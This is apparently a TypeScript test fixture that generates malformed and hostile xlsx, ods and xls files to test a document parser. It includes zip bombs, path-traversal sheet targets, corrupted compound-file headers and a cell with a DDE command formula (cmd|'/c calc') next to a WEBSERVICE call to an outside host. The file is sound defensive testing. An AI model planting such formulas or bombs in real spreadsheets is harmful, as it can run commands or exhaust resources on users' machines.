import {CFB} from "@e965/xlsx";
import {makeCompound, makeWorkbook, sheetOf} from "../../read/makeWorkbook.ts";
import {openDocument, openZip, zipped} from "./documents.ts";
import {type Hostile, named, prose} from "./kind.ts";
import {outside} from "./outside.ts";
import {blown, rawZip} from "./packing.ts";
import {type Root, traps} from "./xml.ts";

const xlsx = named("xlsx");
const ods = named("ods");
const xls = named("xls");

const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const type = "application/vnd.openxmlformats-officedocument.spreadsheetml";

const relation = (id: string, kind: string, target: string): string =>
  `<Relationship Id="${id}" Type="${office}/${kind}" Target="${target}"/>`;
const relations = (inner: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;

type Parts = Record<string, string | Uint8Array>;

/** What a workbook has besides its sheet, as far as it is there. */
const besides: Record<string, string> = {"xl/sharedStrings.xml": "sharedStrings", "xl/styles.xml": "styles"};

const parts = (sheet: string | Uint8Array, more: Parts = {}, named = Object.keys(more)): Parts => {
  const there = Object.entries(besides).filter(([name]) => named.includes(name));
  const overrides = there.map(([name, kind]) => `<Override PartName="/${name}" ContentType="${type}.${kind}+xml"/>`);
  const relating = there.map(([name, kind]) => relation(kind, kind, name.replace("xl/", "")));
  return {
    "[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${type}.worksheet+xml"/>${overrides.join("")}</Types>`,
    "_rels/.rels": relations(relation("a", "officeDocument", "xl/workbook.xml")),
    "xl/workbook.xml": `<workbook ${main} xmlns:r="${office}"><sheets><sheet name="情况" sheetId="1" r:id="s"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": relations(relation("s", "worksheet", "worksheets/sheet1.xml") + relating.join("")),
    "xl/worksheets/sheet1.xml": sheet,
    ...more
  };
};

const text = (at: string, words = prose): string => `<c r="${at}" t="inlineStr"><is><t>${words}</t></is></c>`;
const sheet = (rows: string, around = "", behind = ""): string =>
  `<worksheet ${main}>${around}<sheetData>${rows}</sheetData>${behind}</worksheet>`;
const first = `<row r="1">${text("A1")}</row>`;

const book = (rows: string, around = "", behind = "", more: Parts = {}): Buffer =>
  zipped(parts(sheet(rows, around, behind), more));

const root: Root = (words, attributes = "") =>
  sheet(`<row r="1"><c r="A1" t="inlineStr"><is><t${attributes}>${words}</t></is></c></row>`);

/** The parser of workbooks reads what it can of XML that is broken. */
const broken = (name: string, unreadable: string): string =>
  ({"brackets that never close": "other text", "the end missing": "text"})[name] ?? unreadable;

const workbooks: readonly Hostile[] = [
  ...traps.map(({name, xml, ends}) =>
    xlsx(name, ends ?? broken(name, "nothing-written"), () => zipped(parts(xml(root))))
  ),
  xlsx("a sheet that says to be of 17 thousand million cells", "text", () =>
    book(first, '<dimension ref="A1:XFD1048576"/>')
  ),
  xlsx("a cell at the last place", "text", () => book(`${first}<row r="1048576">${text("XFD1048576")}</row>`)),
  xlsx("a cell beyond the last place", "broken-workbook", () =>
    book(`${first}<row r="99999999999">${text("ZZZZZZZZZ99999999999")}</row>`)
  ),
  xlsx("a row of 10^9", "broken-workbook", () => book(`${first}<row r="1000000000">${text("A1000000000")}</row>`)),
  xlsx("a cell at no place", "text", () => book(`${first}<row r="-1">${text("1A")}${text("A0")}${text("")}</row>`)),
  xlsx("a string that is not there", "nothing-written", () =>
    book(`${first}<row r="2"><c r="A2" t="s"><v>999999999</v></c><c r="B2" t="s"><v>-1</v></c></row>`)
  ),
  xlsx("strings that say to be 10^9", "text", () =>
    book(first, "", "", {
      "xl/sharedStrings.xml": `<sst ${main} count="1000000000" uniqueCount="1000000000"><si><t>a</t></si></sst>`
    })
  ),
  xlsx("strings of 200 MB", "zip-bomb", () =>
    zipped(parts(sheet(first), {}, ["xl/sharedStrings.xml"]), [
      {
        name: "xl/sharedStrings.xml",
        ...blown(`<si><t>${prose}</t></si>`.repeat(10_000), 250, `<sst ${main}>`, "</sst>")
      }
    ])
  ),
  xlsx.slow("a string of 30,000 characters in 20,000 cells", "long-text", () =>
    book(
      Array.from({length: 200}, (_, i) => `<row r="${i + 1}">${'<c t="s"><v>0</v></c>'.repeat(100)}</row>`).join(""),
      "",
      "",
      {
        "xl/sharedStrings.xml": `<sst ${main}><si><t>${prose.repeat(900)}</t></si></sst>`
      }
    )
  ),

  xlsx.slow("100,000 merged cells, one over the other", "text", () =>
    book(
      first,
      "",
      `<mergeCells>${Array.from({length: 100_000}, (_, i) => `<mergeCell ref="A1:${i % 2 ? "XFD" : "B"}${i + 1}"/>`).join("")}</mergeCells>`
    )
  ),
  xlsx("a merged cell over the whole sheet", "text", () =>
    book(first, "", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
  ),
  xlsx("merged cells backwards and at no place", "text", () =>
    book(
      first,
      "",
      '<mergeCells><mergeCell ref="C3:A1"/><mergeCell ref=":"/><mergeCell ref="A1:ZZZZZZ9"/></mergeCells>'
    )
  ),
  xlsx("columns up to 10^9", "nothing-written", () =>
    book(first, '<cols><col min="1" max="1000000000" hidden="1" width="9"/></cols>')
  ),
  xlsx.slow("50,000 hidden rows", "text", () =>
    book(
      `${first}${Array.from({length: 50_000}, (_, i) => `<row r="${i + 2}" hidden="1"><c r="A${i + 2}"><v>1</v></c></row>`).join("")}`
    )
  ),
  xlsx("formulas that ask a host", "text", () =>
    book(
      `${first}<row r="2"><c r="A2" t="str"><f>WEBSERVICE("${outside.host}")</f><v>给</v></c><c r="B2"><f>cmd|'/c calc'!A0</f><v>1</v></c></row>`
    )
  ),
  xlsx("a formula that is shared by 10^10 cells", "text", () =>
    book(`<row r="1">${text("A1")}<c r="B1"><f t="shared" si="0" ref="B1:XFD1048576">A1</f><v>1</v></c></row>`)
  ),
  xlsx("a number format without end", "text", () =>
    book(`${first}<row r="2"><c r="A2" s="1"><v>12345.678</v></c></row>`, "", "", {
      "xl/styles.xml": `<styleSheet ${main}><numFmts><numFmt numFmtId="200" formatCode="${"#,##0.00;[Red]".repeat(5000)}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>`
    })
  ),
  xlsx.slow("a number format of 100,000 digits", "text", () =>
    book(`${first}<row r="2"><c r="A2" s="1"><v>1e300</v></c></row>`, "", "", {
      "xl/styles.xml": `<styleSheet ${main}><numFmts><numFmt numFmtId="200" formatCode="${"0".repeat(100_000)}.${"0".repeat(100_000)}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>`
    })
  ),
  xlsx("20,000 sheets that are one", "many-parts", () =>
    zipped({
      ...parts(sheet(first)),
      "xl/workbook.xml": `<workbook ${main} xmlns:r="${office}"><sheets>${Array.from({length: 20_000}, (_, i) => `<sheet name="s${i}" sheetId="${i}" r:id="s"/>`).join("")}</sheets></workbook>`
    })
  ),
  xlsx("a sheet outside of it", "nothing-written", () =>
    zipped({
      ...parts(sheet(first)),
      "xl/_rels/workbook.xml.rels": relations(relation("s", "worksheet", `../../../../..${outside.file}`))
    })
  ),
  xlsx("a day beyond all time", "text", () =>
    book(`${first}<row r="2"><c r="A2" s="1"><v>1e308</v></c><c r="B2" s="1"><v>-1e9</v></c></row>`, "", "", {
      "xl/styles.xml": `<styleSheet ${main}><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`
    })
  ),
  xlsx("an entry cut short", "nothing-written", () => zipped(parts(sheet(first).slice(0, 90))))
];

const spread = openDocument("spreadsheet");
const cell = (more: string, words = prose): string =>
  `<table:table-cell ${more} office:value-type="string"><text:p>${words}</text:p></table:table-cell>`;
const table = (rows: string): string => spread(`<table:table table:name="情况">${rows}</table:table>`);
const row = (cells: string, more = ""): string => `<table:table-row ${more}>${cells}</table:table-row>`;

const spreadsheets: readonly Hostile[] = [
  ...traps.map(({name, xml, ends}) =>
    ods(name, ends ?? broken(name, "broken-workbook"), () =>
      openZip(
        "spreadsheet",
        xml((words, attributes) => table(row(cell(attributes ?? "", words))))
      )
    )
  ),
  ods("a row of cells that is repeated a million times", "zip-bomb", () =>
    openZip(
      "spreadsheet",
      table(row(cell('table:number-columns-repeated="16384"', "改"), 'table:number-rows-repeated="1048576"'))
    )
  ),
  ods("an empty row that is repeated 10^9 times", "text", () =>
    openZip(
      "spreadsheet",
      table(
        row(cell("")) +
          row('<table:table-cell table:number-columns-repeated="16384"/>', 'table:number-rows-repeated="1000000000"') +
          row(cell(""))
      )
    )
  ),
  ods("an empty cell that is repeated 10^9 times", "text", () =>
    openZip(
      "spreadsheet",
      table(row(`${cell("")}<table:table-cell table:number-columns-repeated="1000000000"/>${cell("")}`))
    )
  ),
  ods("repeats in small steps", "zip-bomb", () =>
    openZip(
      "spreadsheet",
      table(
        row(cell('table:number-columns-repeated="1000"', "改").repeat(20), 'table:number-rows-repeated="20"').repeat(20)
      )
    )
  ),
  ods("repeats that no tag tells as others do", "zip-bomb", () =>
    openZip(
      "spreadsheet",
      table(row(cell("table:number-columns-repeated='16384'", "改"), "table:number-rows-repeated = '100000'"))
    )
  ),
  ods("blanks told by number", "text", () =>
    openZip("spreadsheet", table(row(cell("", `${prose}<text:s text:c="1000000000"/>`))))
  ),
  ods("200 MB of cells", "zip-bomb", () =>
    rawZip([
      {name: "mimetype", data: "application/vnd.oasis.opendocument.spreadsheet"},
      {name: "content.xml", ...blown(row(cell("")).repeat(5000), 200)}
    ])
  ),
  ods("a mark of its kind that is damaged", "text", () =>
    rawZip([
      {
        name: "mimetype",
        data: "application/vnd.oasis.opendocument.spreadsheet",
        crc: 1,
        packed: Buffer.from([7, 7, 7])
      },
      {name: "content.xml", data: table(row(cell("")))},
      {name: "META-INF/manifest.xml", data: "<manifest:manifest/>"}
    ])
  )
];

const small = (): Buffer =>
  makeWorkbook(
    {
      情况: sheetOf([
        ["事项", "件数"],
        ["登记", 3200],
        [prose, 1]
      ])
    },
    "biff8"
  );

/** An old Office file with a number of its head or of its first tables written over. */
export function overwritten(whole: Buffer, at: number, value: number): Buffer {
  const bytes = Buffer.from(whole);
  bytes.writeUInt32LE(value >>> 0, at);
  return bytes;
}

const sectorSize = 512;
/** A number in the head of an old Office file that leads astray: where, and how a workbook and a document with it end. */
interface CompoundField {
  name: string;
  at: number;
  value: number;
  ends: {xls: string; doc: string};
}

const field = (name: string, at: number, value: number, xls: string, doc: string): CompoundField => ({
  name,
  at,
  value,
  ends: {xls, doc}
});

export const compoundFields: readonly CompoundField[] = [
  field("sectors of 2^31 bytes", 30, 0x0006001f, "broken-office", "broken-office"),
  field("sectors of no bytes", 30, 0x00000000, "broken-office", "broken-office"),
  field("2^31 sectors of its table", 44, 0x7fffffff, "text", "other text"),
  field("a folder that begins beyond the file", 48, 0x7ffffff0, "broken-office", "broken-office"),
  field("small streams without an end", 60, 0, "broken-workbook", "broken-word"),
  field("2^31 small sectors", 64, 0x7fffffff, "text", "other text"),
  field("a table of tables that is itself", 68, 0, "text", "other text"),
  field("2^31 tables of tables", 72, 0x7fffffff, "broken-office", "broken-office"),
  field("a table that is its own folder", 76, 1, "broken-office", "broken-office")
];

/** A file whose table of sectors leads in a circle. */
export function circling(whole: Buffer): Buffer {
  const bytes = Buffer.from(whole);
  const at = (bytes.readUInt32LE(76) + 1) * sectorSize;
  for (let i = 0; i < sectorSize / 4; i++) bytes.writeUInt32LE((i + 1) % 8, at + 4 * i);
  return bytes;
}

/** A file whose entries are each other's neighbours and children. */
export function entangled(whole: Buffer): Buffer {
  const bytes = Buffer.from(whole);
  const at = (bytes.readUInt32LE(48) + 1) * sectorSize;
  for (let entry = 0; entry < 4; entry++)
    for (const link of [68, 72, 76]) bytes.writeUInt32LE((entry + 1) % 4, at + 128 * entry + link);
  return bytes;
}

/** Streams that say to be of 2^62 bytes. */
export function endless(whole: Buffer): Buffer {
  const bytes = Buffer.from(whole);
  const at = (bytes.readUInt32LE(48) + 1) * sectorSize;
  for (let entry = 0; entry < 4; entry++) bytes.writeBigUInt64LE(1n << 62n, at + 128 * entry + 120);
  return bytes;
}

/** The records of an old workbook, one after the other. */
const records = (...all: [kind: number, bytes: Uint8Array][]): Buffer =>
  Buffer.concat(
    all.flatMap(([kind, bytes]) => [Buffer.from(Uint16Array.of(kind, bytes.length).buffer), Buffer.from(bytes)])
  );

const begin: [number, Uint8Array] = [0x809, Buffer.from("000605000000000000000000000000", "hex")];

/** An old workbook with these records behind those of its only sheet, and these streams beside it. */
function small8(more: [kind: number, bytes: Uint8Array][], streams: Record<string, Uint8Array> = {}): Buffer {
  const {content} = CFB.find(CFB.read(small(), {type: "buffer"}), "/Workbook") ?? {};
  const stream = Buffer.from(content ?? []);
  const end = records([0x0a, Buffer.of()]);
  const at = stream.lastIndexOf(end);
  return makeCompound({Workbook: Buffer.concat([stream.subarray(0, at), records(...more), end]), ...streams});
}

/** A list of titles and the like that says to have 2^32 of them. */
const countless = Buffer.concat([
  Buffer.from(Uint32Array.of(0x0000fffe, 0, 0, 0, 0, 0, 1).buffer),
  Buffer.from("e0859ff2f94f6810ab9108002b27b3d9", "hex"),
  Buffer.from(Uint32Array.of(48, 8, 0xffffffff).buffer),
  Buffer.alloc(4096)
]);

const old: readonly Hostile[] = [
  xls("titles that say to be 2^32", "text", () => small8([], {"\u0005SummaryInformation": countless})),
  xls("an empty record of every kind but the end", "text", () =>
    small8(
      Array.from({length: 0x1000}, (_, kind): [number, Uint8Array] => [kind, Buffer.of()]).filter(([k]) => k !== 0x0a)
    )
  ),
  xls("a record of one byte of every kind but the end", "text", () =>
    small8(
      Array.from({length: 0x1000}, (_, kind): [number, Uint8Array] => [kind, Buffer.of(255)]).filter(
        ([k]) => k !== 0x0a
      )
    )
  ),
  xls("a record of 16 bytes of ones of every kind but the end and a password", "broken-workbook", () =>
    small8(
      Array.from({length: 0x1000}, (_, kind): [number, Uint8Array] => [kind, Buffer.alloc(16, 255)]).filter(
        ([k]) => k !== 0x0a && k !== 0x2f
      )
    )
  ),
  ...compoundFields.map(({name, at, value, ends}) => xls(name, ends.xls, () => overwritten(small(), at, value))),
  xls("a table of sectors in a circle", "broken-office", () => circling(small())),
  xls("a folder whose entries are each other's", "text", () => entangled(small())),
  xls("streams of 2^62 bytes", "broken-workbook", () => endless(small())),
  xls("cut off", "broken-office", () => small().subarray(0, 1500)),
  xls("strings that say to be 2^31", "broken-workbook", () =>
    makeCompound({Workbook: records(begin, [0xfc, Buffer.from("ffffff7fffffff7f", "hex")], [0x0a, Buffer.of()])})
  ),
  xls("a sheet that is its own book", "nothing-written", () =>
    makeCompound({Workbook: records(begin, [0x85, Buffer.from("00000000000001006100", "hex")], [0x0a, Buffer.of()])})
  ),
  xls("a cell at the last place", "nothing-written", () =>
    makeCompound({
      Workbook: records(
        begin,
        [0x85, Buffer.from("2a0000000000010061", "hex")],
        [0x0a, Buffer.of()],
        begin,
        [0x203, Buffer.from(`ffffff000000${"00".repeat(8)}`, "hex")],
        [0x0a, Buffer.of()]
      )
    })
  )
];

export const sheets: readonly Hostile[] = [...workbooks, ...spreadsheets, ...old];
